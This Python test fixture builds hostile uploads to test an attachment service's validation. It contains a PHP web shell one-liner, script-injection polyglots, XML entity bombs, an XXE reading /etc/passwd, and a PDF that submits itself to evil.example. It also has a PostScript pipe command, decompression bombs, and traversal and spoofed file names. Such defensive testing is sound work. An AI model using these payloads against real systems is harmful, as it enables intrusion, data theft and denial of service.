"""Files that somebody hands in to do harm, beside those of `tests.attachments`; each made on the spot."""

import gzip
import io
import struct
import zlib
from collections.abc import Mapping

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, StreamObject, TextStringObject

from tests.attachments import files
from tests.attachments.test_services import HOSTILE

SCRIPT = b"<script>alert(document.domain)</script>"
PHP = b"<?php system($_GET['c']); ?>"
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 9))
ENTITIES = f'<!DOCTYPE l [<!ENTITY l0 "lol">{LAUGHS}]>'


def pictures() -> Mapping[str, bytes]:
    """What begins like a picture."""
    jpeg = files.picture("JPEG", (300, 300))
    return {
        "jpeg with a place, a maker and a script behind": jpeg + SCRIPT,
        "jpeg and zip": jpeg + files.package(),
        "jpeg with php in a comment": jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(PHP) + 2) + PHP + jpeg[2:],
        "jpeg with html before it": jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT + jpeg[2:],
        "png with html in a text": _png_with(text=SCRIPT.decode()),
        "png with a text bomb": _png_with(bomb=True),
        "png wider than an integer": files.bomb_png(2**31 - 1, 1),
        "png of a line": files.bomb_png(100_000_000, 1),
        "png with rows missing": files.bomb_png(2000, 2000),
        "jpeg that announces 65,500 by 65,500": _jpeg_announcing(65_500, 65_500),
        "jpeg of 51 million pixels": _plain("JPEG", (7_150, 7_150)),
        "progressive jpeg of 13 million pixels": _plain("JPEG", (3_600, 3_600), progressive=True),
        "webp of 5 million pixels": _plain("WEBP", (2_300, 2_300)),
        "webp with a place": _webp_with_metadata(),
        "moving webp": _moving("WEBP"), "moving png": _moving("PNG"),
        "half a png": files.picture("PNG")[: len(files.picture("PNG")) // 2],
        "half a webp": files.picture("WEBP")[:60],
        "tiff named jpg": _plain("TIFF", (300, 300)), "bmp": _plain("BMP", (300, 300)),
        "ico": _plain("ICO", (256, 256)),
        "jpeg 2000": _plain("JPEG2000", (300, 300)), "gif with javascript": b"GIF89a/*" + bytes(90) + b"*/=1;alert(1)",
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 300 300\n(%pipe%id) (w) file\n",
    }  # fmt: skip


def documents() -> Mapping[str, bytes]:
    """What begins like a document."""
    return {
        "html before a pdf": SCRIPT + files.pdf(),
        "pdf with a script on a page": _pdf({"/AA": {"/O": {"/S": "/JavaScript", "/JS": "app.alert(1)"}}}),
        "pdf with a form of its own language": _pdf({"/AcroForm": {"/XFA": "x"}}),
        "pdf that sends itself": _pdf({"/OpenAction": {"/S": "/SubmitForm", "/F": "https://evil.example"}}),
        "pdf that plays a film": _pdf({"/Annots": {"/Subtype": "/RichMedia", "/RichMediaContent": "x"}}),
        "pdf whose pages turn in a circle": files.pdf().replace(b"/Type /Pages", b"/Type /Paged"),
        "pdf with a stream bomb": _pdf_bomb(),
        "laughing docx": files.package(word__settings_DOT_xml=(ENTITIES + "<x>&l8;</x>").encode()),
        "laughing pptx": files.package("pptx", ppt__settings_DOT_xml=(ENTITIES + "<x>&l8;</x>").encode()),
        "docx that reads a file": files.package(
            word__a_DOT_xml=b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
        ),
        "pptx bomb": files.package("pptx", ppt__media__a_DOT_bin=bytes(4 << 20)),
        "docx within docx within docx": files.package(word__embeddings__a_DOT_docx=files.package(x=files.package())),
        "docx climbing out deeply": files.renamed(
            files.package(aa__bb__cc__dd__e_DOT_xml=b"x"), "aa/bb/cc/dd/e.xml", "../../../../e.xm"[:16] + "l"
        ),
        "sheet with macros named docx": files.package(xl__vbaProject_DOT_bin=b"x"),
    }  # fmt: skip


def others() -> Mapping[str, bytes]:
    """What is neither."""
    return {
        "svg with a script": b'\xef\xbb\xbf<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        "packed svg": gzip.compress(b"<svg onload='alert(1)'/>"),
        "html": b"<!doctype html><body onload=alert(1)>", "php": PHP, "shell": b"#!/bin/sh\nid\n",
        "elf": b"\x7fELF" + bytes(200), "shortcut": b"L\0\0\0\x01\x14\x02\0" + bytes(100), "rtf": b"{\\rtf1\\object}",
        "7z": b"7z\xbc\xaf\x27\x1c" + bytes(50), "xml": (ENTITIES + "<x>&l8;</x>").encode(),
    }  # fmt: skip


def everything() -> dict[str, bytes]:
    """All of them by name."""
    known = {f"{name} (kept)": content for name, (content, _words) in HOSTILE.items()}
    return {**known, **pictures(), **documents(), **others()}


NAMES = (
    "../../evil.php", "evil.jpg\0.php", "照片\u202egpj.exe", "x" * 300 + ".jpg", "con.jpg", "<img src=x>.jpg",
    ".htaccess",
)  # fmt: skip
"""Names that such files come with."""


def _plain(kind: str, size: tuple[int, int], **options: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, "#336699").save(out, kind, **options)
    return out.getvalue()


def _png_with(text: str = "", *, bomb: bool = False) -> bytes:
    out, more = io.BytesIO(), PngImagePlugin.PngInfo()
    more.add_text("Comment", "a" * (2 << 20) if bomb else text, zip=bomb)
    Image.new("RGB", (300, 300)).save(out, "PNG", pnginfo=more)
    return out.getvalue()


def _jpeg_announcing(width: int, height: int) -> bytes:
    jpeg = files.picture("JPEG", (300, 300))
    at = jpeg.index(b"\xff\xc0")
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :]


def _webp_with_metadata() -> bytes:
    out, exif = io.BytesIO(), Image.Exif()
    exif[files.MAKE] = "SecretPhone"
    exif.get_ifd(files.GPS)[2] = (30.0, 20.0, 14.0)
    Image.new("RGB", (300, 300)).save(out, "WEBP", exif=exif, xmp=b"<x:xmpmeta>SecretPhone</x:xmpmeta>")
    return out.getvalue()


def _moving(kind: str) -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (300, 300), (n, n, n)) for n in range(60)]
    frames[0].save(out, kind, save_all=True, append_images=frames[1:])
    return out.getvalue()


def _entry(value: object) -> object:
    if isinstance(value, dict):
        return DictionaryObject({NameObject(key): _entry(one) for key, one in value.items()})
    return NameObject(value) if str(value).startswith("/") else TextStringObject(str(value))


def _pdf(more: dict[str, object]) -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    page = writer.add_blank_page(200, 200)
    for key, value in more.items():
        holder = page if key in ("/AA", "/Annots") else writer.root_object
        entry = _entry(value)
        holder[NameObject(key)] = ArrayObject([entry]) if key == "/Annots" else entry  # type: ignore[list-item]
    writer.write(out)
    return out.getvalue()


def _pdf_bomb() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    page, stream = writer.add_blank_page(200, 200), StreamObject()
    stream._data = zlib.compress(bytes(64 << 20))
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = writer._add_object(stream)
    writer.write(out)
    return out.getvalue()
